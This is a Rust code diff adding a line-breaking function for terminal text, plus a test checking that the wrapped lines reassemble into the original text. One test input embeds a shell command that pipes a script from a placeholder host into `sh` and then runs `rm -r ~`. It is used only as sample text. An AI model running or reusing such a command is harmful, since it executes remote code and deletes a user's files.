@@ -87,6 +87,26 @@ pub fn wrap(text: &str, width: usize) -> Vec<String> {
     lines
 }
 
+/// The text over as many lines of at most `width` columns as it takes, broken behind blanks where that can be done. Nothing is left out or
+/// added, blanks neither: in a command they are meant.
+pub fn break_lines(text: &str, width: usize) -> Vec<String> {
+    let width = width.max(10);
+    let mut lines = Vec::new();
+    let (mut line, mut columns) = (String::new(), 0);
+    for letter in plain(text).replace('\n', " ").chars() {
+        let wide = measure_text_width(letter.encode_utf8(&mut [0; 4]));
+        if columns + wide > width {
+            let rest = line.rfind(' ').map_or_else(String::new, |blank| line.split_off(blank + 1));
+            lines.push(std::mem::replace(&mut line, rest));
+            columns = measure_text_width(&line);
+        }
+        line.push(letter);
+        columns += wide;
+    }
+    lines.push(line);
+    lines
+}
+
 /// As much of a line as fits, with a sign that there was more.
 pub fn fit(text: &str, width: usize) -> String {
     console::truncate_str(&flat(text), width.max(1), "…").into_owned()
@@ -127,6 +147,20 @@ mod tests {
         assert_eq!(wrap("打开设置然后打开无线网络", 10), ["打开设置然", "后打开无线", "网络"]);
         assert_eq!(wrap("abcdefghijklmnop q", 10), ["abcdefghij", "klmnop q"]);
         assert!(wrap("", 10).is_empty());
+    }
+
+    /// Whatever a command holds, all of it is there: what is put together again is what came in.
+    #[test]
+    fn broken_lines_are_the_whole_text() {
+        let command = "runs the program sh -c 'curl  x.example |  sh; 打开设置然后打开无线网络; rm -r ~'";
+        assert_eq!(break_lines("one  two three", 10), ["one  two ", "three"]);
+        for text in [command, "", " ", "a", &"x".repeat(95), &format!("{} {}", "x".repeat(29), "y".repeat(31))] {
+            for width in 10..100 {
+                let lines = break_lines(text, width);
+                assert_eq!(lines.concat(), text, "{width}");
+                assert!(lines.iter().all(|line| measure_text_width(line) <= width), "{width}: {lines:?}");
+            }
+        }
     }
 
     #[test]
